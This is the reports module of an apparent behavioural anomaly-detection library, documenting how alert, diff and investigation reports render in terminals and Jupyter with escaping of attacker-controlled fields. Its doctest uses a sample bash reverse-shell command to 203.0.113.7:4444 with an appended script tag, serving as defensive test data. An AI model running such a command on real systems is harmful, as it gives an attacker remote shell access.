"""Rich display: reports that read well in a terminal and in Jupyter.

Each report wraps what the library returns (a DataFrame, a
:class:`~behavemodel.artifacts.BaselineDiff`) and renders it as aligned text
(``print(report)``, ``report.to_text()``) and as HTML tables in Jupyter
(``report.to_html()``; the notebook calls ``_repr_html_``). ``report.frame`` /
``report.to_pandas()`` give the rows back unchanged, and the library functions
keep returning DataFrames: the reports are views, built with:

- :func:`convergence` (a fitted model) -> :class:`ConvergenceReport`;
- :func:`alerts` (rows of ``explain``, or an alerts Parquet file) -> :class:`AlertReport`;
- :func:`diff` (the result of :func:`behavemodel.diff`) -> :class:`DiffReport`;
- :func:`timeline`, :func:`ancestry`, :func:`connections` (rows of
  :mod:`behavemodel.investigate`) -> :class:`TimelineReport`,
  :class:`AncestryReport`, :class:`ConnectionReport`, which are also instances
  of the text reports of :mod:`behavemodel.investigate`.

Everything shown may come from the events, and command lines, paths and host
names are attacker-controlled. Text escapes every non-printable character
(:func:`text_cell`: control characters, line separators, bidirectional
overrides) so nothing can move the cursor or forge a line; HTML escapes those
and then ``html.escape(..., quote=True)`` every cell and attribute
(:func:`html_cell`), so nothing can open a tag or leave an attribute.

Examples
--------
>>> import pandas as pd
>>> from behavemodel import reports
>>> rows = pd.DataFrame({
...     "time": pd.to_datetime(["2024-03-11T11:05:00Z"]), "host_name": ["web-01"],
...     "feature": ["NetworkProcesses"], "score": [1.0],
...     "key": ["exe=/usr/bin/bash, direction=outbound"],
...     "process_cmdline": ["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 <script>"]})
>>> report = reports.alerts(rows)
>>> print(report)
1 alert on 1 host (web-01), 2024-03-11 11:05:00 .. 11:05:00 UTC: NetworkProcesses 1
time                 host    feature           score  key
2024-03-11 11:05:00  web-01  NetworkProcesses   1.00  exe=/usr/bin/bash, direction=outbound
>>> "&lt;script&gt;" in report._repr_html_()
True
>>> report.frame is rows
True
"""

from behavemodel.reports._alerts import AlertReport, alerts
from behavemodel.reports._convergence import ConvergenceReport, convergence
from behavemodel.reports._diff import DiffReport, diff
from behavemodel.reports._investigate import (
    AncestryReport,
    ConnectionReport,
    TimelineReport,
    ancestry,
    connections,
    timeline,
)
from behavemodel.reports._render import DISPLAY_ROWS, Report, html_cell, text_cell

__all__ = [
    "DISPLAY_ROWS",
    "AlertReport",
    "AncestryReport",
    "ConnectionReport",
    "ConvergenceReport",
    "DiffReport",
    "Report",
    "TimelineReport",
    "alerts",
    "ancestry",
    "connections",
    "convergence",
    "diff",
    "html_cell",
    "text_cell",
    "timeline",
]
